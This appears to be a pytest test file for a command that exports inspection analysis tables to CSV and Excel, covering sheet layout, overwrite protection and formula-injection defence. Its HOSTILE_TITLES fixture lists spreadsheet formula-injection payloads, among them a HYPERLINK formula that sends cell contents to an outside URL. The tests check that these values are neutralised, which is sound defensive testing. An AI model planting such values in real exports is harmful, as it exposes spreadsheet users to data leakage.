"""`hmip export`: the analysis tables for a spreadsheet, each inspection once, with the column descriptions."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import openpyxl

from models.schemas import TABLES
from pipeline.cli import main
from pipeline.extract.run import RunOptions, run
from pipeline.read.export import EXPORTED, FORMULA_STARTS


def _csv(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_export_writes_each_analysis_table_and_the_column_descriptions(sample_out, tmp_path, capsys):
    target = tmp_path / "csv"
    assert main(["export", "--out-dir", str(sample_out), "--format", "csv", "--to", str(target)]) == 0
    assert f"wrote {len(EXPORTED) + 1} files" in capsys.readouterr().out
    assert sorted(p.stem for p in target.glob("*.csv")) == sorted([*EXPORTED, "columns"])
    inspections = _csv(target / "inspections.csv")
    assert len(inspections) == 5
    conwy = next(row for row in inspections if row["inspection_id"].startswith("conwy"))
    assert conwy["overall_rating"] == "Requires improvement" and conwy["score"] == "13"
    assert len(conwy["doc_ids"].split("; ")) == 2  # the .txt and the .pdf, one inspection
    recommendations = _csv(target / "inspection_recommendations.csv")
    assert len(recommendations) == 15
    columns = _csv(target / "columns.csv")
    described = {(row["table"], row["column"]): row["description"] for row in columns}
    assert described[("inspection_ratings", "agree")] == TABLES["inspection_ratings"].column("agree").description


def test_xlsx_export_has_a_sheet_per_table(sample_out, tmp_path):
    target = tmp_path / "tables.xlsx"
    assert main(["export", "--out-dir", str(sample_out), "--format", "xlsx", "--to", str(target)]) == 0
    workbook = openpyxl.load_workbook(target)
    assert workbook.sheetnames == [*EXPORTED, "columns"]
    sheet = workbook["inspection_ratings"]
    header = [cell.value for cell in sheet[1]]
    assert header == TABLES["inspection_ratings"].column_names
    assert sheet.max_row - 1 == 28
    # reads like a workbook: a bold header that stays in view, a filter on every column, widths fitted
    for name in workbook.sheetnames:
        sheet = workbook[name]
        assert all(cell.font.bold for cell in sheet[1]) and sheet.freeze_panes == "A2", name
        assert sheet.auto_filter.ref == sheet.dimensions, name
    summary = workbook["inspection_summary"]
    widths = {cell.value: summary.column_dimensions[cell.column_letter].width for cell in summary[1]}
    assert widths["inspection_id"] >= len("conwy-and-denbighshire-standards-2024-05") and max(widths.values()) <= 60
    # a date known to its month is the month, not the 1st; every check is there, not only the failures
    rows = [dict(zip([c.value for c in summary[1]], [c.value for c in row], strict=True))
            for row in summary.iter_rows(min_row=2)]
    conwy = next(r for r in rows if r["inspection_id"].startswith("conwy"))
    assert (conwy["publication_date"], conwy["publication_date_precision"]) == ("2024-05", "month")
    assert conwy["fieldwork_start"] == "2024-01-15"
    checks = workbook["checks"]
    column = [c.value for c in checks[1]].index("outcome")
    assert checks.max_row - 1 == 100 and {row[column].value for row in checks.iter_rows(min_row=2)} == {"passed"}


def test_export_of_a_folder_without_tables_says_so(tmp_path, capsys):
    assert main(["export", "--out-dir", str(tmp_path / "missing")]) == 2
    assert "no output folder" in capsys.readouterr().err


# ------------------------------------------------------------------ what is already there, and what a cell holds

def test_an_existing_target_is_a_usage_error_unless_forced(sample_out, tmp_path, capsys):
    workbook = tmp_path / "tables.xlsx"
    arguments = ["export", "--out-dir", str(sample_out), "--format", "xlsx", "--to", str(workbook)]
    assert main(arguments) == 0
    first = workbook.read_bytes()
    assert main(arguments) == 2
    assert "already exists: --force replaces it" in capsys.readouterr().err
    assert workbook.read_bytes() == first
    assert main([*arguments, "--force"]) == 0
    folder = tmp_path / "csv"
    arguments = ["export", "--out-dir", str(sample_out), "--format", "csv", "--to", str(folder)]
    assert main(arguments) == 0 and main(arguments) == 2
    assert "--force replaces them" in capsys.readouterr().err
    assert main([*arguments, "--force"]) == 0
    assert sorted(p.name for p in folder.iterdir()) == sorted(f"{n}.csv" for n in [*EXPORTED, "columns"])


def test_a_workbook_never_lands_on_a_file_of_another_kind(sample_out, tmp_path, capsys):
    notes = tmp_path / "notes.txt"
    notes.write_text("an analyst's notes")
    for target, fmt in ((notes, "xlsx"), (notes, "csv"), (tmp_path, "xlsx")):
        assert main(["export", "--out-dir", str(sample_out), "--format", fmt, "--to", str(target), "--force"]) == 2
    assert notes.read_text() == "an analyst's notes"
    err = capsys.readouterr().err
    assert "ends in .xlsx" in err and "is a file" in err and "is a folder" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.txt"]


def test_the_default_place_is_the_programs_own_and_is_replaced(sample_out, tmp_path, capsys):
    out = tmp_path / "out"
    shutil.copytree(sample_out, out)
    for _ in range(2):
        assert main(["export", "--out-dir", str(out), "--format", "xlsx"]) == 0
    assert f"to {out / 'export' / 'hmip-inspections.xlsx'}" in capsys.readouterr().out


HOSTILE_TITLES = ['=HYPERLINK("http://example.invalid/?"&A1,"Open")', "+1+2 Anytown youth justice", "-2+3",
                  "@SUM(A1:A2)", "\tAnytown", "\rAnytown"]


def _hostile_tables(tmp_path) -> Path:
    """Documents whose first line (their title) is written the way an attacker would write it, extracted."""
    raw = tmp_path / "raw"
    raw.mkdir()
    for number, title in enumerate(HOSTILE_TITLES):
        (raw / f"page-{number}.txt").write_text(
            f"{title}\n\nThe inspection of Anytown Youth Justice Service was published in May 2023.\n", encoding="utf-8")
    assert run(RunOptions(str(raw), str(tmp_path / "out"), jobs=1, quiet=True)).exit_code == 0
    return tmp_path / "out"


def test_a_cell_that_would_run_as_a_formula_is_text_in_the_workbook(tmp_path):
    out = _hostile_tables(tmp_path)
    target = tmp_path / "tables.xlsx"
    assert main(["export", "--out-dir", str(out), "--format", "xlsx", "--to", str(target)]) == 0
    sheet = openpyxl.load_workbook(target)["documents"]
    column = [cell.value for cell in sheet[1]].index("title")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    dangerous = [cell for cell in cells if str(cell.value).startswith(FORMULA_STARTS)]
    assert len(dangerous) >= 4 and all(cell.data_type == "s" for cell in dangerous)
    assert HOSTILE_TITLES[0] in [cell.value for cell in cells]  # as written, never run
    assert "<f>" not in _sheet_xml(target)


def _sheet_xml(path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_a_cell_that_would_run_as_a_formula_starts_with_a_quote_in_csv(tmp_path):
    out = _hostile_tables(tmp_path)
    assert main(["export", "--out-dir", str(out), "--format", "csv", "--to", str(tmp_path / "csv")]) == 0
    exported = [row["title"] for row in _csv(tmp_path / "csv" / "documents.csv")]
    assert "'" + HOSTILE_TITLES[0] in exported
    assert not [title for title in exported if title.startswith(FORMULA_STARTS)]
    counts = [row["page_count"] for row in _csv(tmp_path / "csv" / "documents.csv")]
    assert counts == ["1"] * len(HOSTILE_TITLES)  # numbers are numbers
